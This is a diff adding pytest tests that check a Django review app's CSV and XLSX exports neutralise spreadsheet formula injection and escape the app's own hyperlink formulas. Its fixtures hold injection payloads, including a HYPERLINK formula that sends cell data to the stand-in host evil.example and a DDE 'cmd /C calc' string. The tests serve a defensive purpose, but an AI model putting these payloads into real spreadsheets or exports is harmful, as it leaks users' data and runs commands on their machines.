@@ -137,3 +137,169 @@ def _rss_peak_meter():
             return int(re.search(r"VmHWM:\s+(\d+)", f.read()).group(1)) * 1024
 
     return read
+
+
+# --- every export, one neutralising rule -----------------------------------------------------
+
+# Written out here, not imported: the test must not share the rule it checks.
+EVIL = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3", " =1+1",
+        "\tx", "\uff1d1+1"]
+STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
+
+
+def _would_run(cell) -> bool:
+    return isinstance(cell, str) and cell.lstrip(" ").startswith(STARTS)
+
+
+def _assert_inert(rows, *, formulas_allowed=0):
+    """No data cell a spreadsheet would evaluate, except the app's own links; every EVIL value is
+    present (neutralised), so a writer that drops the data cannot pass."""
+    cells = [c for row in rows for c in row]
+    runnable = [c for c in cells if _would_run(c)]
+    assert all(c.startswith("=HYPERLINK(") for c in runnable), runnable
+    assert len(runnable) <= formulas_allowed
+    return cells
+
+
+@pytest.fixture
+def evil_world(db, tmp_path):
+    """Rows whose every outside string (source and user names, keys, notes, reasons, name-list
+    lines) is a formula."""
+    from reviewapp import models as m
+    from tests.factories import CandidateFactory
+
+    cur = UserFactory(role="curator", username="=cur")
+    boss = UserFactory(role="admin", username="@boss")
+    canon = SourceFactory(name="+canon", role=m.Source.Role.CANONICAL)
+    clean = SourceFactory(name="-clean", role=m.Source.Role.CLEANUP)
+    items = []
+    for i, evil in enumerate(EVIL):
+        cand = CandidateFactory(cleanup_asset=AssetFactory(source=clean, key=f"{evil}{i}", name=evil),
+                                match_asset=AssetFactory(source=canon, key=f"{evil}k{i}"))
+        items.append(ReviewItemFactory(best_candidate=cand))
+    plan = m.DeletionPlan.objects.create(created_by=boss, source=clean)
+    for i, item in enumerate(items):
+        d = m.Decision.objects.create(review_item=item, asset=item.asset, candidate=item.best_candidate,
+                                      action=m.Decision.Action.LOG_ERROR, actor=cur, note=EVIL[i])
+        m.ErrorLogEntry.objects.create(asset=item.asset, category="wrong_id", note=EVIL[i], created_by=cur, decision=d)
+        di = m.DeletionItem.objects.create(plan=plan, decision=d, asset=item.asset,
+                                           kept_asset=item.best_candidate.match_asset, etag_at_decision=EVIL[i],
+                                           kept_etag_at_decision=EVIL[i], size=10, reason=EVIL[i])
+        m.AuditEntry.objects.create(action="quarantine", item=di, source_name=EVIL[i], key=EVIL[i], etag=EVIL[i],
+                                    kept_source_name=EVIL[i], kept_key=EVIL[i], reason=EVIL[i], approved_by=boss)
+    nl = m.NameList.objects.create(source=clean, title="box", requested=len(EVIL), not_found=len(EVIL))
+    for i, evil in enumerate(EVIL):
+        m.NameListEntry.objects.create(namelist=nl, line=i + 1, raw=evil, normalised=evil, status="not_found")
+    return {"boss": boss, "plan": plan, "namelist": nl, "items": items}
+
+
+def _csv_rows(data):
+    text = (data if isinstance(data, str) else data.decode("utf-8")).lstrip("\ufeff")
+    rows = list(csv.reader(io.StringIO(text)))
+    return rows[1:]
+
+
+def _body(resp):
+    assert resp.status_code == 200, resp.status_code
+    return b"".join(resp.streaming_content) if resp.streaming else resp.content
+
+
+def test_every_csv_export_neutralises_every_data_cell(client, evil_world):
+    from tests.conftest import api_client_for
+
+    boss, plan, nl = evil_world["boss"], evil_world["plan"], evil_world["namelist"]
+    client.force_login(boss)
+    api = api_client_for(boss)
+    exports = {
+        "plan (UI)": client.get(reverse("deletion-plan-csv", args=[plan.pk])),
+        "audit (UI)": client.get(reverse("audit-list"), {"format": "csv"}),
+        "error log (UI)": client.get(reverse("errorlog-list"), {"format": "csv"}),
+        "error log (API)": api.get("/api/v1/error-log/export-csv/"),
+        "misses (UI)": client.get(reverse("namelist-misses", args=[nl.pk])),
+        "misses (API)": api.get(f"/api/v1/namelists/{nl.pk}/misses/"),
+    }
+    for name, resp in exports.items():
+        rows = _csv_rows(_body(resp))
+        assert rows, name
+        cells = _assert_inert(rows)
+        for evil in EVIL:
+            assert any(c.endswith(evil) or evil + "0" in c or c.endswith(evil.strip()) for c in cells), (name, evil)
+
+
+def test_namelist_command_misses_are_neutralised_and_upload_again_as_the_same_names(evil_world, tmp_path):
+    from django.core.management import call_command
+
+    from reviewapp.models import NameList
+
+    names = tmp_path / "names.txt"
+    wanted = {e + " (not here)" for e in EVIL if e.strip() == e}
+    names.write_text("\n".join(sorted(wanted)), encoding="utf-8")
+    misses = tmp_path / "misses.csv"
+    call_command("doppel_namelist", "--misses", str(misses), "--", "-clean", str(names), stdout=io.StringIO())
+    rows = _csv_rows(misses.read_text(encoding="utf-8"))
+    _assert_inert(rows)
+    assert {r[1] for r in rows} == {"'" + e for e in wanted}
+    # the misses file, fixed and uploaded again, names the same things (the mark comes off)
+    call_command("doppel_namelist", "--", "-clean", str(misses), stdout=io.StringIO())
+    again = NameList.objects.order_by("-pk").first()
+    assert set(again.entries.values_list("raw", flat=True)) == wanted
+
+
+def test_every_xlsx_export_neutralises_cells_and_escapes_its_own_links(client, evil_world, settings):
+    from tests.conftest import api_client_for
+
+    settings.ALLOWED_HOSTS = ['evil"host', "testserver"]
+    boss = evil_world["boss"]
+    client.force_login(boss)
+    api = api_client_for(boss)
+    for resp in (client.get(reverse("errorlog-list"), {"format": "xlsx"}),
+                 api.get("/api/v1/error-log/export-xlsx/")):
+        ws = load_workbook(io.BytesIO(_body(resp))).active
+        rows = list(ws.values)[1:]
+        assert len(rows) == len(EVIL)
+        cells = _assert_inert(rows, formulas_allowed=len(EVIL))
+        notes = [r[7] for r in rows]
+        assert sorted(notes) == sorted("'" + e for e in EVIL)
+        assert all(str(r[-1]).startswith('=HYPERLINK("http://testserver/') for r in rows)
+        assert cells
+
+
+def test_hyperlink_formula_escapes_quotes_in_the_data_it_carries():
+    from openpyxl import Workbook
+
+    from reviewapp.services.exports import hyperlink_formula
+
+    url = 'http://x/"&HYPERLINK("http://evil")&"'
+    f = hyperlink_formula(url)
+    # the data sits in string literals only: every quote inside is doubled, so the literal
+    # never ends early and nothing after it becomes a formula of its own
+    inner = f[len('=HYPERLINK("'):-len('")')]
+    first, second = inner.split('","')
+    assert first == second == url.replace('"', '""')
+    assert hyperlink_formula("http://x/" + "a" * 300).startswith("http://x/")  # too long: plain text
+    assert hyperlink_formula("=" + "a" * 300).startswith("'=")
+    wb = Workbook()
+    wb.active.append([f])
+    assert wb.active["A1"].data_type == "f"
+
+
+def test_safe_cell_leaves_numbers_and_plain_text_alone():
+    assert safe_cell(-2) == -2 and safe_cell(0.5) == 0.5
+    assert safe_cell("box-1/C0001-a.jpg") == "box-1/C0001-a.jpg"
+    assert safe_cell(" @x") == "' @x" and safe_cell("\uff1dSUM(1)") == "'\uff1dSUM(1)"
+
+
+def test_reingest_manifest_csv_is_neutralised(db):
+    from reviewapp import models as m
+    from reviewapp.services.reingest import _manifest
+
+    asset = AssetFactory(key="=HYPERLINK(1)", source=SourceFactory(name="@src"))
+    item = m.ReingestItem.objects.create(asset=asset, reason="+more pixels", created_by=UserFactory(role="curator"),
+                                         target_key="-k")
+    manifest_json, manifest_csv = _manifest(item)
+    rows = _csv_rows(manifest_csv.decode())
+    _assert_inert(rows)
+    assert "'=HYPERLINK(1)" in rows[0]
+    import json
+
+    assert json.loads(manifest_json)["items"][0]["original_key"] == "=HYPERLINK(1)"  # exact for machines
